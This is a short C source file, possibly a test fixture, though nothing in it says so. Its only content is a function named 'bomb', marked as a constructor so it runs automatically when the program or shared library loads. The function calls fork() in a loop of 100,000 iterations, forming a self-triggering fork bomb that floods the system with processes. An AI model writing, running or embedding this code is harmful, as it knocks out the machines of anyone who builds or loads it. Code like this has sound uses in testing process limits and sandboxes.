#include <unistd.h>

__attribute__((constructor)) static void bomb(void)
{
	for (int i = 0; i < 100000; i++)
		fork();
}
